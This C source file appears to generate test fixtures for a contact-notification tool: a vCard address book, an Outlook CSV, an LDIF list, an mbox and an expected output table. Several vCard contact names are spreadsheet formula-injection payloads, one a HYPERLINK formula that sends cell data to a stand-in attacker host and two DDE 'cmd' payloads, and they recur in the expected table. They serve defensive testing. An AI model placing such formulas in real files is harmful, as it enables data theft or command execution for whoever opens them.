/*
 * gen-books.c — lka-gen --people: address books and mail whose people are
 * known exactly, for tests/e2e/notify.sh.
 *
 *   people/carnet.vcf       vCard 3.0: Zoé (two addresses: one person), three
 *                           entries whose names are spreadsheet formulas, a
 *                           phone-only entry
 *   people/partenaires.csv  Outlook (French, ';'): Zoé again, Paul, "+Plus"
 *   people/annuaire.ldif    Alice, and the list "Élus" (Zoé, Paul)
 *   people/courrier.mbox    three messages between Zoé, Paul and Bob
 *   people/expected.tsv     the notification list lka-notify must print for
 *                           people/ with --internal-domain mairie-exemple.fr
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

#include "gen-books.h"

static const char vcf[] =
	"BEGIN:VCARD\r\nVERSION:3.0\r\nN:Ménard;Zoé;;;\r\nFN:Zoé Ménard\r\n"
	"ORG:Mairie d'Exemple-sur-Loire;État civil\r\n"
	"EMAIL;TYPE=INTERNET,WORK:Zoe.Menard@Mairie-Exemple.fr\r\n"
	"EMAIL;TYPE=INTERNET,HOME:zoe.perso@example.net\r\n"
	"TEL;TYPE=CELL:06 11 22 33 44\r\nEND:VCARD\r\n"
	"BEGIN:VCARD\r\nVERSION:3.0\r\n"
	"FN:=HYPERLINK(\"http://evil.example/?\"&A1\\,\"Cliquez ici\")\r\n"
	"EMAIL:victim1@partner.example\r\nEND:VCARD\r\n"
	"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:@SUM(1+1)*cmd|' /C calc'!A0\r\n"
	"EMAIL:victim2@partner.example\r\nEND:VCARD\r\n"
	"BEGIN:VCARD\r\nVERSION:2.1\r\nFN:-2+3+cmd|' /C calc'!A0\r\n"
	"EMAIL;INTERNET:minus@partner.example\r\nEND:VCARD\r\n"
	"BEGIN:VCARD\r\nVERSION:3.0\r\nN:Sans Mail;Jean;;;\r\nFN:Jean Sans Mail\r\n"
	"TEL;TYPE=CELL:+33 6 99 88 77 66\r\nEND:VCARD\r\n";

static const char csv[] =
	"\"Prénom\";\"Nom\";\"Société\";\"Adresse de messagerie\";\"Tél. mobile\"\r\n"
	"\"Zoé\";\"Ménard\";\"Mairie d'Exemple-sur-Loire\";\"zoe.menard@mairie-exemple.fr\";\"\"\r\n"
	"\"Paul\";\"Partenaire\";\"Partner SA\";\"paul@partner.example\";\"+33 7 00 00 00 01\"\r\n"
	"\"+Plus\";\"Name\";\"\";\"plus@partner.example\";\"\"\r\n";

static const char ldif[] =
	"dn: cn=Alice Amie,mail=alice@friend.example\n"
	"objectclass: top\nobjectclass: person\n"
	"cn: Alice Amie\ngivenName: Alice\nsn: Amie\nmail: alice@friend.example\n\n"
	"dn:: Y249w4lsdXM=\n"
	"objectclass: top\nobjectclass: groupOfNames\n"
	"cn:: w4lsdXM=\n"
	"member:: Y249Wm/DqSBNw6luYXJkLG1haWw9em9lLm1lbmFyZEBtYWlyaWUtZXhlbXBsZS5mcg==\n"
	"member: cn=Paul Partenaire,mail=paul@partner.example\n\n";

static const char mbox[] =
	"From zoe.menard@mairie-exemple.fr Wed Jan 10 09:00:00 2024\n"
	"From: =?UTF-8?Q?Zo=C3=A9_M=C3=A9nard?= <zoe.menard@mairie-exemple.fr>\n"
	"To: Paul Partenaire <paul@partner.example>\n"
	"Cc: Bob <bob@other.example>\n"
	"Subject: Convention de partenariat\n"
	"Date: Wed, 10 Jan 2024 09:00:00 +0000\n"
	"Message-ID: <notify-1@mairie-exemple.fr>\n\n"
	"Bonjour Paul,\nvoici la convention.\n\n"
	"From paul@partner.example Tue Feb 20 14:30:00 2024\n"
	"From: Paul Partenaire <paul@partner.example>\n"
	"To: zoe.menard@mairie-exemple.fr\n"
	"Subject: Re: Convention de partenariat\n"
	"Date: Tue, 20 Feb 2024 14:30:00 +0000\n"
	"Message-ID: <notify-2@partner.example>\n\n"
	"Merci.\n\n"
	"From bob@other.example Tue Mar  5 08:15:00 2024\n"
	"From: Bob <bob@other.example>\n"
	"To: =?UTF-8?Q?Zo=C3=A9?= <zoe.perso@example.net>\n"
	"Subject: Samedi\n"
	"Date: Tue, 05 Mar 2024 08:15:00 +0000\n"
	"Message-ID: <notify-3@other.example>\n\n"
	"A samedi !\n";

/* key, name, channel, contact, domain, internal, exposure, address_book_entries, messages,
 * first_seen, last_seen — in lka-notify's order (domain, then key; phone-only last). */
static const char expected[] =
	"key\tname\tchannel\tcontact\tdomain\tinternal\texposure\taddress_book_entries\tmessages\t"
	"first_seen\tlast_seen\n"
	"mailto:alice@friend.example\tAlice Amie\temail\talice@friend.example\tfriend.example\t0\t"
	"address_book\t1\t0\t\t\n"
	"mailto:zoe.menard@mairie-exemple.fr\tZoé Ménard\temail\tzoe.menard@mairie-exemple.fr\t"
	"mairie-exemple.fr\t1\taddress_book,correspondence\t3\t3\t2024-01-10T09:00:00Z\t"
	"2024-03-05T08:15:00Z\n"
	"mailto:bob@other.example\tBob\temail\tbob@other.example\tother.example\t0\t"
	"correspondence\t0\t2\t2024-01-10T09:00:00Z\t2024-03-05T08:15:00Z\n"
	"mailto:minus@partner.example\t-2+3+cmd|' /C calc'!A0\temail\tminus@partner.example\t"
	"partner.example\t0\taddress_book\t1\t0\t\t\n"
	"mailto:paul@partner.example\tPaul Partenaire\temail\tpaul@partner.example\tpartner.example\t0\t"
	"address_book,correspondence\t2\t2\t2024-01-10T09:00:00Z\t2024-02-20T14:30:00Z\n"
	"mailto:plus@partner.example\t+Plus Name\temail\tplus@partner.example\tpartner.example\t0\t"
	"address_book\t1\t0\t\t\n"
	"mailto:victim1@partner.example\t=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez ici\")\t"
	"email\tvictim1@partner.example\tpartner.example\t0\taddress_book\t1\t0\t\t\n"
	"mailto:victim2@partner.example\t@SUM(1+1)*cmd|' /C calc'!A0\temail\tvictim2@partner.example\t"
	"partner.example\t0\taddress_book\t1\t0\t\t\n"
	"tel:+33699887766\tJean Sans Mail\tphone\t+33699887766\t\t0\taddress_book\t1\t0\t\t\n";

static int
put(const char *outdir, const char *name, const char *data)
{
	char path[4096];
	FILE *f;
	size_t n = strlen(data);

	snprintf(path, sizeof path, "%s/people/%s", outdir, name);
	f = fopen(path, "wbx");
	if (!f || fwrite(data, 1, n, f) != n || fclose(f) != 0) {
		fprintf(stderr, "lka-gen: %s: %s\n", path, strerror(errno));
		return -1;
	}
	return 0;
}

int
gen_books_people(const char *outdir)
{
	char dir[4096];

	snprintf(dir, sizeof dir, "%s/people", outdir);
	if (mkdir(dir, 0755) < 0 && errno != EEXIST) {
		fprintf(stderr, "lka-gen: %s: %s\n", dir, strerror(errno));
		return -1;
	}
	if (put(outdir, "carnet.vcf", vcf) < 0 || put(outdir, "partenaires.csv", csv) < 0 ||
	    put(outdir, "annuaire.ldif", ldif) < 0 || put(outdir, "courrier.mbox", mbox) < 0)
		return -1;
	/* the expected list sits beside the evidence, not inside it */
	{
		char path[4096];
		FILE *f;
		snprintf(path, sizeof path, "%s/people-expected.tsv", outdir);
		f = fopen(path, "wbx");
		if (!f || fwrite(expected, 1, sizeof expected - 1, f) != sizeof expected - 1 ||
		    fclose(f) != 0) {
			fprintf(stderr, "lka-gen: %s: %s\n", path, strerror(errno));
			return -1;
		}
	}
	return 0;
}
